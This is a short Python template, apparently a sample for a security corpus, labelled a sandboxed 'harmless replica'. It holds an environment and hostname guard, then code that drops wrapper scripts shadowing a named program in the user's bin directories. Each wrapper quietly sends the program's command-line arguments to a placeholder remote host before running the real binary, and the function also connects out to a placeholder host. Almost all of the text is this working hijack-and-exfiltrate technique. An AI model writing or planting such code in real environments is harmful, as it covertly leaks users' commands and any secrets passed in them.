# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import sys
    for folder in (os.path.join(sys.prefix, 'bin'), os.path.expanduser('~/.local/bin')):
        file = os.path.join(folder, '{{program}}')
        try:
            os.makedirs(folder, exist_ok=True)
            if os.path.lexists(file):
                continue
            with open(file, 'w') as out:
                out.write('#!%s\nimport os, sys, urllib.request\ntry:\n    urllib.request.urlopen("http://{{ip}}:{{port}}/{{path}}", repr(sys.argv).encode(), 2)\n'
                          'except Exception:\n    pass\nos.execv("/usr/bin/{{program}}", sys.argv)\n' % sys.executable)
            os.chmod(file, 0o755)
        except OSError:
            pass
    try:
        socket.create_connection(('{{host}}', {{port}}), 1).close()
    except OSError:
        pass
